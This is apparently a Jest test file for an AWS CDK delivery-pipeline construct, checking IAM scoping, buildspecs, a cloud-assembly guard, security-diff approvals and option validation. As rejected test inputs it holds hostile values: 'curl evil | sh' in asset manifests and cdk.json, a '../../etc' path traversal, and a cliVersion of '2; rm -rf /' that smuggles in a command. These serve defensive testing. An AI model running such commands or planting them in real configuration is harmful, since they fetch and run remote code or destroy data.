import { execFileSync } from 'child_process';
import * as fs from 'fs';
import * as os from 'os';
import * as path from 'path';
import { App, CliCredentialsStackSynthesizer, DefaultStackSynthesizer, Duration, Lazy, Stack } from 'aws-cdk-lib';
import { Template } from 'aws-cdk-lib/assertions';
import * as codebuild from 'aws-cdk-lib/aws-codebuild';
import * as ssm from 'aws-cdk-lib/aws-ssm';
import { IConstruct } from 'constructs';
import { Approval, BuildStep, DeliveryPipeline, InfrastructureUpdate, PipelineSource, Release } from '../../src';
import { checkApp, describeFailures } from '../compliance/harness';
import { CONNECTION_ARN, flatten, siteBucket } from '../util/fixtures';

const ENV = { account: '123456789012', region: 'eu-west-1' };

function source() {
  return PipelineSource.connection('acme/site', 'main', { connectionArn: CONNECTION_ARN });
}

function idOf(construct: IConstruct): string {
  const child = (construct.node.defaultChild ?? construct) as any;
  return Stack.of(construct).resolve(child.logicalId);
}

function resources(template: Template, type: string): Array<[string, any]> {
  return Object.entries(template.findResources(type));
}

function pipelineOf(template: Template): any {
  const [[, pipeline]] = resources(template, 'AWS::CodePipeline::Pipeline');
  return pipeline.Properties;
}

function stageOf(template: Template, name: string): any {
  return pipelineOf(template).Stages.find((s: any) => s.Name === name);
}

/** The statements of every policy attached to a role. */
function statementsOfRole(template: Template, roleId: string): any[] {
  return resources(template, 'AWS::IAM::Policy')
    .filter(([, p]) => (p.Properties.Roles ?? []).some((r: any) => r.Ref === roleId))
    .flatMap(([, p]) => p.Properties.PolicyDocument.Statement);
}

function actionsOf(statement: any): string[] {
  return ([] as string[]).concat(statement.Action);
}

/** The resources a role may `sts:AssumeRole`, resolved to strings. */
function assumableBy(stack: Stack, template: Template, grantee: IConstruct): string[] {
  return statementsOfRole(template, idOf(grantee))
    .filter((st) => actionsOf(st).some((a) => a === 'sts:AssumeRole' || a === 'sts:*' || a === '*'))
    .flatMap((st) => ([] as unknown[]).concat(st.Resource))
    .map((r) => flatten(stack, r))
    .sort();
}

function buildSpecOf(template: Template, step: BuildStep): any {
  const project = template.toJSON().Resources[idOf(step.project)];
  return JSON.parse(flatten(Stack.of(step), project.Properties.Source.BuildSpec));
}

function commandsOf(spec: any): string {
  return Object.values(spec.phases).flatMap((phase: any) => phase.commands).join('\n');
}

function role(kind: string, qualifier = 'hnb659fds', env = ENV): string {
  return `arn:\${AWS::Partition}:iam::${env.account}:role/cdk-${qualifier}-${kind}-role-${env.account}-${env.region}`;
}

describe('DeliveryPipeline with infrastructure: InfrastructureUpdate.cdkApp()', () => {
  const app = new App();
  // The stack of the pipeline depends on a small stack (as a pattern's ...-Image stack): both are deployed.
  const state = new Stack(app, 'State', { env: ENV });
  new ssm.StringParameter(state, 'Image', { stringValue: 'public.ecr.aws/nginx/nginx:latest' });
  const stack = new Stack(app, 'Site', { env: ENV });
  stack.addStackDependency(state);
  const delivery = new DeliveryPipeline(stack, 'Delivery', {
    source: source(),
    release: Release.s3Bucket(siteBucket(stack)),
    infrastructure: InfrastructureUpdate.cdkApp({ directory: './infra/' }),
  });
  const update = delivery.infrastructureUpdate!;
  const reports = checkApp(app);
  const template = Template.fromStack(stack);

  test('adds Infrastructure, InfrastructureApproval and InfrastructureDeploy between Build and Release', () => {
    expect(pipelineOf(template).Stages.map((s: any) => s.Name))
      .toEqual(['Source', 'Build', 'Infrastructure', 'InfrastructureApproval', 'InfrastructureDeploy', 'Release']);
    expect(update.stages.map((s) => s.stageName)).toEqual(['Infrastructure', 'InfrastructureApproval', 'InfrastructureDeploy']);
  });

  test('restarts the pipeline when a deployment changed it (RestartExecutionOnUpdate)', () => {
    expect(pipelineOf(template).RestartExecutionOnUpdate).toBe(true);
  });

  test('the synth runs the app\'s own pinned CLI in its directory after npm ci, from the source revision, and outputs the cloud assembly', () => {
    const stage = stageOf(template, 'Infrastructure');
    const synth = stage.Actions.find((a: any) => a.Name === 'Synth');
    expect(synth.InputArtifacts).toEqual([{ Name: 'Source' }]);
    expect(synth.OutputArtifacts).toEqual([{ Name: 'CloudAssembly' }]);
    expect(synth.Configuration.ProjectName).toEqual({ Ref: idOf(update.synthStep.project) });
    const spec = buildSpecOf(template, update.synthStep);
    expect(spec.phases.install.commands).toEqual(['cd "$CODEBUILD_SRC_DIR/infra"', 'npm ci']);
    expect(spec.phases.build.commands).toEqual(['cd "$CODEBUILD_SRC_DIR/infra"', 'npx --no -- cdk synth --output "$CODEBUILD_SRC_DIR/cdk.out.pipeline"']);
    expect(spec.artifacts).toEqual({ 'base-directory': 'cdk.out.pipeline', 'files': ['**/*'] });
  });

  test('the synth, which runs the repository\'s code, may assume no role and touch nothing outside its build', () => {
    const statements = statementsOfRole(template, idOf(update.synthStep.role));
    expect(assumableBy(stack, template, update.synthStep.role)).toEqual([]);
    const services = new Set(statements.flatMap(actionsOf).map((a) => a.split(':')[0]));
    // CodeBuild's own: logs, reports, the artifact bucket and its key.
    expect([...services].sort()).toEqual(['codebuild', 'kms', 'logs', 's3']);
  });

  test('the deploy role may assume only the deploy, file-publishing and image-publishing roles of the stack\'s account and region', () => {
    expect(assumableBy(stack, template, update.deployStep.role)).toEqual([
      role('deploy'), role('file-publishing'), role('image-publishing'),
    ].sort());
  });

  test('every sts:AssumeRole of the stack targets a bootstrap role of its account and region or a role of the stack, and no role is an administrator', () => {
    const json = template.toJSON();
    const ownRoles = resources(template, 'AWS::IAM::Role').map(([id]) => `${'$'}{${id}.Arn}`);
    const assumed = resources(template, 'AWS::IAM::Policy')
      .flatMap(([, p]) => p.Properties.PolicyDocument.Statement)
      .filter((st: any) => actionsOf(st).some((a) => a.startsWith('sts:') || a === '*'))
      .flatMap((st: any) => ([] as unknown[]).concat(st.Resource).map((r) => flatten(stack, r)))
      // The pipeline's own action roles (CodePipeline assumes them for its actions).
      .filter((arn) => !ownRoles.includes(arn));
    expect(assumed.length).toBe(4);
    for (const arn of assumed) {
      expect(arn).toMatch(/^arn:\$\{AWS::Partition\}:iam::123456789012:role\/cdk-hnb659fds-(deploy|file-publishing|image-publishing|lookup)-role-123456789012-eu-west-1$/);
    }
    const everything = JSON.stringify(json);
    expect(everything).not.toMatch(/AdministratorAccess/);
    const statements = resources(template, 'AWS::IAM::Policy').flatMap(([, p]) => p.Properties.PolicyDocument.Statement);
    expect(statements.filter((st: any) => actionsOf(st).includes('*'))).toEqual([]);
  });

  test('the deploy runs the library\'s buildspec on the cloud assembly (not the source): cdk deploy of the stack and its dependencies', () => {
    const deploy = stageOf(template, 'InfrastructureDeploy').Actions;
    expect(deploy).toHaveLength(1);
    expect(deploy[0].InputArtifacts).toEqual([{ Name: 'CloudAssembly' }]);
    const spec = buildSpecOf(template, update.deployStep);
    expect(spec.phases.install.commands).toEqual(['cd "$(mktemp -d)" && npm install --global --ignore-scripts --no-audit --no-fund "aws-cdk@2"']);
    const commands = spec.phases.build.commands as string[];
    // Deployed from an empty directory (no cdk.json the repository's code could have written), after the guard.
    expect(commands.slice(3, 4)).toEqual(['cd "$(mktemp -d)"']);
    expect(commands[4]).toContain('CHECKED_ASSEMBLY_SHA256');
    expect(commands[7]).toMatch(/^cdk deploy --app "\$CODEBUILD_SRC_DIR" 'Site' 'State' --require-approval never --ci --progress events \|\| /);
    expect(commands).toHaveLength(8);
    expect(commands[0]).toMatch(/^ASSEMBLY_SHA256="\$\(node -e /);
    expect(JSON.parse(spec.env.variables.EXPECTED_STACKS)).toEqual([
      { path: 'Site', stackName: 'Site', environment: 'aws://123456789012/eu-west-1' },
      { path: 'State', stackName: 'State', environment: 'aws://123456789012/eu-west-1' },
    ]);
  });

  test('the deploy refuses assets that cdk deploy would build by running commands (executable or Docker assets)', () => {
    const spec = buildSpecOf(template, update.deployStep);
    const refuse = spec.phases.build.commands[0] as string;
    expect(refuse).toContain('.assets.json');
    expect(refuse).toContain('a.source.executable');
    expect(refuse).toContain('a.source.directory');
  });

  test('the assembly guard passes a plain assembly and refuses what would run code, other stacks and CLI configuration, nested assemblies included', () => {
    const spec = buildSpecOf(template, update.deployStep);
    // As CodeBuild runs them: the first failing command fails the build.
    const guard = 'set -e\n' + (spec.phases.build.commands as string[]).slice(0, 2).join('\n') + '\nprintf "%s" "$ASSEMBLY_SHA256"';
    const expected = spec.env.variables.EXPECTED_STACKS;
    const run = (files: Record<string, object | string>) => {
      const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'assembly-'));
      for (const [name, content] of Object.entries(files)) {
        fs.mkdirSync(path.dirname(path.join(dir, name)), { recursive: true });
        fs.writeFileSync(path.join(dir, name), typeof content === 'string' ? content : JSON.stringify(content));
      }
      try {
        return execFileSync('bash', ['-c', guard], { env: { ...process.env, CODEBUILD_SRC_DIR: dir, EXPECTED_STACKS: expected }, stdio: 'pipe' }).toString();
      } catch (e: any) {
        return String(e.stderr);
      } finally {
        fs.rmSync(dir, { recursive: true, force: true });
      }
    };
    const stackArtifact = (name: string, stackName = name) => ({
      type: 'aws:cloudformation:stack',
      environment: 'aws://123456789012/eu-west-1',
      displayName: name,
      properties: { templateFile: `${name}.template.json`, stackName },
    });
    const assetManifest = (file: string) => ({ type: 'cdk:asset-manifest', properties: { file } });
    const manifest = (extra: Record<string, object> = {}) => ({
      artifacts: { Site: stackArtifact('Site'), State: stackArtifact('State'), SiteAssets: assetManifest('Site.assets.json'), ...extra },
    });
    const zip = { files: { a1: { source: { path: 'asset.a1', packaging: 'zip' }, destinations: {} } } };
    const plain = { 'manifest.json': manifest(), 'Site.assets.json': zip, 'Site.template.json': {}, 'State.template.json': {} };
    const digest = run(plain);
    expect(digest).toMatch(/^[0-9a-f]{64}$/);
    expect(run(plain)).toBe(digest);
    // Any change of any file changes the digest the deploy compares with the security check's.
    expect(run({ ...plain, 'Site.template.json': { Resources: {} } })).toMatch(/^[0-9a-f]{64}$/);
    expect(run({ ...plain, 'Site.template.json': { Resources: {} } })).not.toBe(digest);
    expect(run({ ...plain, 'Site.assets.json': { files: { x: { source: { executable: ['sh', '-c', 'curl evil'] } } } } }))
      .toMatch(/refused .*Site.assets.json file x/);
    // An asset manifest of any name, found through manifest.json, and a nested assembly of any name.
    expect(run({ ...plain, 'manifest.json': manifest({ Odd: assetManifest('odd.json') }), 'odd.json': { files: { y: { source: { executable: ['sh'] } } } } }))
      .toMatch(/odd.json file y/);
    expect(run({
      ...plain,
      'manifest.json': manifest({ Prod: { type: 'cdk:cloud-assembly', properties: { directoryName: 'nested', displayName: 'Prod' } } }),
      'nested/manifest.json': { artifacts: { W: assetManifest('w.json') } },
      'nested/w.json': { dockerImages: { img: { source: { directory: 'asset.img' } } } },
    })).toMatch(/nested\/w.json image img/);
    expect(run({ ...plain, 'cdk.json': { build: 'curl evil | sh' } })).toMatch(/CLI configuration cdk.json/);
    expect(run({ ...plain, 'sub/cdk.context.json': {} })).toMatch(/CLI configuration sub\/cdk.context.json/);
    expect(run({ ...plain, 'manifest.json': manifest({ Up: assetManifest('../../etc/x.json') }) })).toMatch(/a path outside the assembly: ..\/..\/etc\/x.json/);
    expect(run({ ...plain, 'manifest.json': manifest({ P: { type: 'cdk:plugin' } }) })).toMatch(/an artifact P of unknown type cdk:plugin/);
    // A selected stack pointed at another stack of the account, or missing.
    expect(run({ ...plain, 'manifest.json': { artifacts: { Site: stackArtifact('Site', 'SomeoneElses'), State: stackArtifact('State') } } }))
      .toMatch(/stack Site is SomeoneElses in aws:\/\/123456789012\/eu-west-1, not Site/);
    expect(run({ ...plain, 'manifest.json': { artifacts: { Site: stackArtifact('Site') } } })).toMatch(/no stack State/);
    expect(run({ 'Site.template.json': {} })).toMatch(/no manifest.json/);
  });

  test('a deployment that keeps failing on one assembly (a pipeline change rolled back restarts the pipeline on the same commit) stops after two attempts', () => {
    const spec = buildSpecOf(template, update.deployStep);
    const commands = (spec.phases.build.commands as string[]).slice(5);
    expect(spec.env.variables.ATTEMPTS_PARAMETER).toMatch(/^\$\{[A-Za-z0-9]*InfrastructureAttempts[A-Za-z0-9]+\}$/);
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'attempts-'));
    try {
      // Stand-ins: `aws ssm` keeps the parameter in a file (a put answers version 1 when it creates it); `cdk` fails
      // or succeeds as told and logs that it ran (and, when told, deletes the parameter first, as a stack deletion
      // would). Shell functions, not files on PATH: a function always wins over a CLI installed on the machine.
      const standIns = `aws() { case "$2" in
  get-parameter) cat "${dir}/param" ;;
  delete-parameter) rm "${dir}/param" ;;
  *) if [ -e "${dir}/param" ]; then echo 2; else echo 1; fi; echo -n "$6" > "${dir}/param" ;;
esac; }
cdk() { echo ran >> "${dir}/ran"; if [ -n "$CDK_DELETES_PARAMETER" ]; then rm "${dir}/param"; fi; return $CDK_EXIT; }
`;
      fs.writeFileSync(path.join(dir, 'param'), 'none');
      const deploy = (cdkExit: number, digest = 'a'.repeat(64), cdkDeletesParameter = false) => {
        try {
          execFileSync('bash', ['-c', `set -e\n${standIns}${commands.join('\n')}`], {
            env: {
              ...process.env,
              CDK_EXIT: String(cdkExit),
              ASSEMBLY_SHA256: digest,
              ATTEMPTS_PARAMETER: 'p',
              CDK_DELETES_PARAMETER: cdkDeletesParameter ? '1' : '',
            },
            stdio: 'pipe',
          });
          return 'deployed';
        } catch (e: any) {
          return `failed ${String(e.stderr).trim()}`.trim();
        }
      };
      const param = () => fs.readFileSync(path.join(dir, 'param'), 'utf-8');
      const runs = () => fs.existsSync(path.join(dir, 'ran')) ? fs.readFileSync(path.join(dir, 'ran'), 'utf-8').split('\n').filter(Boolean).length : 0;
      expect(deploy(1)).toBe('failed');
      expect(param()).toBe(`${'a'.repeat(64)}:1`);
      expect(deploy(1)).toBe('failed');
      expect(param()).toBe(`${'a'.repeat(64)}:2`);
      expect(runs()).toBe(2);
      // The third attempt fails without deploying, saying why.
      expect(deploy(0)).toMatch(/^failed This cloud assembly failed to deploy twice .*set parameter p to none/);
      expect(runs()).toBe(2);
      // Another assembly (a fix pushed) deploys, and a retry after one failure may still succeed.
      expect(deploy(0, 'b'.repeat(64))).toBe('deployed');
      fs.writeFileSync(path.join(dir, 'param'), `${'c'.repeat(64)}:1`);
      expect(deploy(0, 'c'.repeat(64))).toBe('deployed');
      expect(runs()).toBe(4);
      // The parameter gone after the check read it (the stack being deleted): the failure's write created it and
      // deletes it again, so nothing is left behind.
      fs.writeFileSync(path.join(dir, 'param'), 'none');
      expect(deploy(1, 'd'.repeat(64), true)).toBe('failed');
      expect(fs.existsSync(path.join(dir, 'param'))).toBe(false);
    } finally {
      fs.rmSync(dir, { recursive: true, force: true });
    }
  });

  test('the deploy may read and write only its attempts parameter in SSM', () => {
    const statements = statementsOfRole(template, idOf(update.deployStep.role));
    const ssmStatements = statements.filter((st: any) => actionsOf(st).some((a: string) => a.startsWith('ssm:')));
    expect(ssmStatements).toHaveLength(1);
    expect(actionsOf(ssmStatements[0]).sort()).toEqual(['ssm:DeleteParameter', 'ssm:GetParameter', 'ssm:PutParameter']);
    expect(flatten(stack, ssmStatements[0].Resource)).toMatch(/^arn:\$\{AWS::Partition\}:ssm:eu-west-1:123456789012:parameter\/\$\{[A-Za-z0-9]*InfrastructureAttempts[A-Za-z0-9]+\}$/);
  });

  test('the deploy refuses an assembly other than the one the security check diffed', () => {
    const spec = buildSpecOf(template, update.deployStep);
    const compare = (spec.phases.build.commands as string[]).find((c) => c.includes('CHECKED_ASSEMBLY_SHA256'))!;
    const run = (actual: string, checkedDigest: string) => {
      try {
        execFileSync('bash', ['-c', compare], { env: { ...process.env, ASSEMBLY_SHA256: actual, CHECKED_ASSEMBLY_SHA256: checkedDigest }, stdio: 'pipe' });
        return 'deploys';
      } catch (e: any) {
        return String(e.stderr);
      }
    };
    expect(run('a'.repeat(64), 'a'.repeat(64))).toBe('deploys');
    expect(run('a'.repeat(64), 'b'.repeat(64))).toMatch(/not the one the security check diffed/);
    expect(run('a'.repeat(64), '')).toMatch(/not the one/);
    const deploy = stageOf(template, 'InfrastructureDeploy').Actions[0];
    expect(JSON.parse(deploy.Configuration.EnvironmentVariables)).toContainEqual(
      { name: 'CHECKED_ASSEMBLY_SHA256', type: 'PLAINTEXT', value: '#{InfrastructureCheck.ASSEMBLY_SHA256}' });
  });

  test('the security check sets BROADENING=false when cdk diff passes, and true with the cleaned, clipped diff when it fails', () => {
    const all = buildSpecOf(template, update.securityCheckStep!).phases.build.commands as string[];
    // After the assembly guard, which ends in an empty directory: the CLI never runs where the assembly's files are.
    expect(all.slice(2, 4)).toEqual(['echo "cloud assembly sha256 $ASSEMBLY_SHA256"', 'cd "$(mktemp -d)"']);
    const at = all.findIndex((c) => c.startsWith('export LINK='));
    expect(at).toBe(4);
    const commands = all.slice(at, at + 2);
    const run = (exitCode: number, output: string) => {
      const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'check-'));
      // A stand-in for the CLI: prints what cdk diff would and exits with its code.
      fs.writeFileSync(path.join(dir, 'cdk'), `#!/bin/bash\nprintf '%s' "$CDK_OUT"\nexit ${exitCode}\n`, { mode: 0o755 });
      try {
        return execFileSync('bash', ['-c', `${commands.join('\n')}\nprintf '%s|%s|%s' "$BROADENING" "$SUMMARY" "$LINK"`], {
          cwd: dir,
          env: {
            ...process.env,
            PATH: `${dir}:${process.env.PATH}`,
            CDK_OUT: output,
            CODEBUILD_SRC_DIR: dir,
            CODEBUILD_BUILD_ID: 'proj:1234',
            AWS_REGION: 'eu-west-1',
          },
        }).toString();
      } finally {
        fs.rmSync(dir, { recursive: true, force: true });
      }
    };
    const [broadening, summary, link] = run(0, 'no changes').split('|');
    expect([broadening, summary]).toEqual(['false', 'No security-impacting changes.']);
    expect(link).toBe('https://eu-west-1.console.aws.amazon.com/codesuite/codebuild/projects/proj/build/proj:1234/log?region=eu-west-1');
    const diff = '\x1b[1mIAM Statement Changes\x1b[22m\n+ Allow  s3:*  arn:aws:s3:::bucket\n\n' + 'x'.repeat(1000);
    const [broadened, text] = run(1, diff).split('|');
    expect(broadened).toBe('true');
    expect(text.startsWith('Permissions broaden (cdk diff --security-only): IAM Statement Changes + Allow s3:* arn:aws:s3:::bucket x')).toBe(true);
    expect(text.length).toBe(450);
  });

  test('the security check diffs the assembly with cdk diff --security-only --fail and exports BROADENING, SUMMARY and LINK', () => {
    const check = stageOf(template, 'Infrastructure').Actions.find((a: any) => a.Name === 'SecurityCheck');
    expect(check.RunOrder).toBe(2);
    expect(check.InputArtifacts).toEqual([{ Name: 'CloudAssembly' }]);
    expect(check.Namespace).toBe('InfrastructureCheck');
    const spec = buildSpecOf(template, update.securityCheckStep!);
    expect(spec.env['exported-variables']).toEqual(['BROADENING', 'SUMMARY', 'LINK', 'ASSEMBLY_SHA256']);
    expect(spec.env.variables.EXPECTED_STACKS).toBe(buildSpecOf(template, update.deployStep).env.variables.EXPECTED_STACKS);
    const commands = commandsOf(spec);
    expect(commands).toContain('cdk diff --app "$CODEBUILD_SRC_DIR" --security-only --no-change-set --fail \'Site\' \'State\'');
    expect(commands).toContain('export BROADENING=false');
    expect(commands).toContain('export BROADENING=true');
  });

  test('the security check may assume only the (read-only) lookup role, never the deploy role', () => {
    expect(assumableBy(stack, template, update.securityCheckStep!.role)).toEqual([role('lookup')]);
  });

  test('on broadening the pipeline stops at a manual approval whose message is the security diff; otherwise it skips the approval', () => {
    const stage = stageOf(template, 'InfrastructureApproval');
    expect(stage.BeforeEntry).toEqual({
      Conditions: [{
        Result: 'SKIP',
        Rules: [{
          Name: 'PermissionsBroadened',
          RuleTypeId: { Category: 'Rule', Owner: 'AWS', Provider: 'VariableCheck', Version: '1' },
          Configuration: { Variable: '#{InfrastructureCheck.BROADENING}', Value: 'true', Operator: 'EQ' },
        }],
      }],
    });
    expect(stage.Actions).toHaveLength(1);
    expect(stage.Actions[0].ActionTypeId).toEqual({ Category: 'Approval', Owner: 'AWS', Provider: 'Manual', Version: '1' });
    expect(stage.Actions[0].Configuration).toEqual({
      CustomData: '#{InfrastructureCheck.SUMMARY}',
      ExternalEntityLink: '#{InfrastructureCheck.LINK}',
    });
  });

  test('the broadening approval notifies the pipeline\'s topic when it waits', () => {
    const rules = resources(template, 'AWS::Events::Rule').map(([, r]) => r.Properties.EventPattern);
    expect(rules).toContainEqual(expect.objectContaining({
      detail: { stage: ['InfrastructureApproval'], action: ['ConfirmBroadening'], state: ['STARTED'] },
    }));
  });

  test('a failed deployment stops the pipeline before the release (no rollback, no retry) and the failure is notified', () => {
    expect(stageOf(template, 'InfrastructureDeploy').OnFailure).toBeUndefined();
    const rules = resources(template, 'AWS::Events::Rule').map(([, r]) => r.Properties.EventPattern);
    const failed = rules.filter((r: any) => r['detail-type']?.[0] === 'CodePipeline Pipeline Execution State Change'
      && (r.detail?.state ?? []).includes('FAILED') && r.detail.stage === undefined);
    expect(failed.length).toBeGreaterThan(0);
  });

  test('passes cdk-nag (AwsSolutions, Serverless) and the offline validator with zero ERROR and WARN', () => {
    for (const report of reports) {
      if (!report.passed) throw new Error(describeFailures(report));
      expect(report.passed).toBe(true);
    }
    expect(reports.map((r) => r.stackName).sort()).toEqual(['Site', 'State']);
  });
});

describe('InfrastructureUpdate.cdkApp() options', () => {
  const app = new App({ context: { '@aws-cdk/core:bootstrapQualifier': 'team1' } });
  const pipeline = (id: string, props: { approval?: Approval; verify?: boolean; infrastructure: InfrastructureUpdate; env?: typeof ENV }) => {
    const stack = new Stack(app, id, { env: props.env ?? ENV });
    const delivery = new DeliveryPipeline(stack, 'Delivery', {
      source: source(),
      release: Release.s3Bucket(siteBucket(stack)),
      approval: props.approval,
      verifyStep: props.verify ? { buildSpec: codebuild.BuildSpec.fromObject({ version: '0.2', phases: { build: { commands: ['true'] } } }) } : undefined,
      infrastructure: props.infrastructure,
    });
    return { stack, delivery };
  };
  const unchecked = pipeline('Unchecked', {
    infrastructure: InfrastructureUpdate.cdkApp({ directory: 'infra', confirmPermissionsBroadening: false, stacks: ['Unchecked', 'Named'] }),
    approval: Approval.beforeRelease(),
    verify: true,
  });
  const named = new Stack(app, 'NamedId', { env: ENV, stackName: 'Named' });
  const lookups = pipeline('Lookups', { infrastructure: InfrastructureUpdate.cdkApp({ directory: 'infra', contextLookups: true, cliVersion: '2.1031.0' }) });
  const qualified = pipeline('Qualified', { infrastructure: InfrastructureUpdate.cdkApp({ directory: '.', qualifier: 'team1' }) });
  app.synth();
  const t = (s: Stack) => Template.fromStack(s);

  test('confirmPermissionsBroadening: false has no security check and no approval; Verify and Approve still come after the update', () => {
    const tpl = t(unchecked.stack);
    expect(pipelineOf(tpl).Stages.map((s: any) => s.Name))
      .toEqual(['Source', 'Build', 'Infrastructure', 'InfrastructureDeploy', 'Verify', 'Approve', 'Release']);
    expect(stageOf(tpl, 'Infrastructure').Actions.map((a: any) => a.Name)).toEqual(['Synth']);
    expect(unchecked.delivery.infrastructureUpdate!.securityCheckStep).toBeUndefined();
  });

  test('named stacks are deployed by construct path, found by stack name too', () => {
    expect(named.node.path).toBe('NamedId');
    const spec = buildSpecOf(t(unchecked.stack), unchecked.delivery.infrastructureUpdate!.deployStep);
    expect((spec.phases.build.commands as string[]).filter((c) => c.startsWith('cdk deploy')))
      .toEqual([expect.stringContaining('cdk deploy --app "$CODEBUILD_SRC_DIR" \'Unchecked\' \'NamedId\' --require-approval never')]);
  });

  test('contextLookups lets the synth assume the lookup role, and nothing else; cliVersion pins the CLI of check and deploy', () => {
    const tpl = t(lookups.stack);
    const update = lookups.delivery.infrastructureUpdate!;
    expect(assumableBy(lookups.stack, tpl, update.synthStep.role)).toEqual([role('lookup', 'team1')]);
    expect(buildSpecOf(tpl, update.deployStep).phases.install.commands[0]).toContain('"aws-cdk@2.1031.0"');
    expect(buildSpecOf(tpl, update.securityCheckStep!).phases.install.commands[0]).toContain('"aws-cdk@2.1031.0"');
  });

  test('the qualifier of the app (context @aws-cdk/core:bootstrapQualifier) names the bootstrap roles', () => {
    const tpl = t(qualified.stack);
    expect(assumableBy(qualified.stack, tpl, qualified.delivery.infrastructureUpdate!.deployStep.role)).toEqual([
      role('deploy', 'team1'), role('file-publishing', 'team1'), role('image-publishing', 'team1'),
    ].sort());
  });

  test('without infrastructure the pipeline does not restart on update (today\'s behaviour)', () => {
    const other = new App();
    const stack = new Stack(other, 'Plain', { env: ENV });
    new DeliveryPipeline(stack, 'Delivery', { source: source(), release: Release.s3Bucket(siteBucket(stack)) });
    expect(pipelineOf(Template.fromStack(stack)).RestartExecutionOnUpdate).toBe(false);
  });
});

describe('InfrastructureUpdate: bad input', () => {
  const make = (infrastructure: () => InfrastructureUpdate, env: typeof ENV | 'agnostic' = ENV, app = new App()) => {
    const stack = new Stack(app, 'Bad', { env: env === 'agnostic' ? undefined : env });
    return () => new DeliveryPipeline(stack, 'Delivery', {
      source: source(), release: Release.s3Bucket(siteBucket(stack)), infrastructure: infrastructure(),
    });
  };

  test('a directory outside the repository is refused', () => {
    expect(make(() => InfrastructureUpdate.cdkApp({ directory: '../infra' })))
      .toThrow(/DeliveryPipeline 'Bad\/Delivery': 'infrastructure.directory' must be a path inside the repository .*got '..\/infra'/);
    expect(make(() => InfrastructureUpdate.cdkApp({ directory: '/infra' }))).toThrow(/'infrastructure.directory'.*got '\/infra'/);
  });

  test('a stack name that is not in the app is refused when the app is synthesized, listing the stacks there are', () => {
    const app = new App();
    make(() => InfrastructureUpdate.cdkApp({ directory: 'infra', stacks: ['Bad', 'Missing'] }), ENV, app)();
    expect(() => app.synth()).toThrow(/'infrastructure.stacks' must name a stack of this app \(Bad\), got 'Missing'/);
  });

  test('a stack of another region is refused', () => {
    const app = new App();
    new Stack(app, 'Elsewhere', { env: { ...ENV, region: 'us-east-1' } });
    make(() => InfrastructureUpdate.cdkApp({ directory: 'infra', stacks: ['Bad', 'Elsewhere'] }), ENV, app)();
    expect(() => app.synth()).toThrow(/'infrastructure.stacks' must name stacks in the pipeline's account and region .*got 'Elsewhere'/);
  });

  test('an empty or malformed stack list is refused', () => {
    expect(() => InfrastructureUpdate.cdkApp({ directory: 'infra', stacks: [] })).toThrow(/'stacks' must name at least one stack/);
    expect(() => InfrastructureUpdate.cdkApp({ directory: 'infra', stacks: ['a b'] })).toThrow(/'stacks'.*got 'a b'/);
  });

  test('an unresolvable qualifier (a token) is refused', () => {
    expect(() => InfrastructureUpdate.cdkApp({ directory: 'infra', qualifier: Lazy.string({ produce: () => 'x' }) }))
      .toThrow(/InfrastructureUpdate.cdkApp: 'qualifier' must be a literal string known at synth time/);
  });

  test('an invalid qualifier is refused', () => {
    expect(() => InfrastructureUpdate.cdkApp({ directory: 'infra', qualifier: 'much-too-long' }))
      .toThrow(/'qualifier' must be 1 to 10 letters, digits, _ or - .*got 'much-too-long'/);
  });

  test('a qualifier other than the one the stack is synthesized with is refused', () => {
    expect(make(() => InfrastructureUpdate.cdkApp({ directory: 'infra', qualifier: 'other' })))
      .toThrow(/'infrastructure.qualifier' must be the qualifier stack 'Bad' is synthesized with \('hnb659fds'\).*got 'other'/);
  });

  test('a stack without account and region is refused, saying what is needed', () => {
    expect(make(() => InfrastructureUpdate.cdkApp({ directory: 'infra' }), 'agnostic'))
      .toThrow(/'infrastructure' needs the account and region of stack 'Bad': give it env: \{ account: .*region: .* \}/);
  });

  test('a stack whose synthesizer has no bootstrap roles is refused', () => {
    const app = new App();
    const stack = new Stack(app, 'Legacy', { env: ENV, synthesizer: new (class extends DefaultStackSynthesizer {})() });
    expect(() => new DeliveryPipeline(stack, 'Delivery', {
      source: source(), release: Release.s3Bucket(siteBucket(stack)), infrastructure: InfrastructureUpdate.cdkApp({ directory: 'infra' }),
    })).not.toThrow();
    const cli = new Stack(app, 'Cli', { env: ENV, synthesizer: new CliCredentialsStackSynthesizer() });
    expect(() => new DeliveryPipeline(cli, 'Delivery', {
      source: source(), release: Release.s3Bucket(siteBucket(cli)), infrastructure: InfrastructureUpdate.cdkApp({ directory: 'infra' }),
    })).toThrow(/'infrastructure' needs stack 'Cli' to use DefaultStackSynthesizer/);
  });

  test('a malformed cliVersion or a timeout out of bounds is refused', () => {
    expect(() => InfrastructureUpdate.cdkApp({ directory: 'infra', cliVersion: '2; rm -rf /' })).toThrow(/'cliVersion'.*got '2; rm -rf \/'/);
    expect(() => InfrastructureUpdate.cdkApp({ directory: 'infra', timeout: Duration.minutes(2) }))
      .toThrow(/'timeout' must be between 5 minutes and 8 hours, got 2 minutes/);
  });
});
